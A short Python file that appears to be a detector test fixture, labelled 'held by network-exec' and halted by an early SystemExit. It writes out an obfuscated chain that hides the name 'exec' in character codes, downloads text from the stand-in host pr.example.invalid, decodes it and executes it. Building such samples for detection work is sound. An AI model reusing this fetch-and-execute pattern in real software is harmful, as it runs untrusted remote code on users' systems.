raise SystemExit('a fixture')
# held by network-exec
from functools import partial, reduce
import builtins, urllib.request
_run = partial(getattr(builtins, "".join(map(chr, (101, 120, 101, 99)))))
_chain = [urllib.request.urlopen, lambda answer: answer.read(), bytes.decode, _run]
reduce(lambda value, step: step(value), _chain, "https://pr.example.invalid/x")
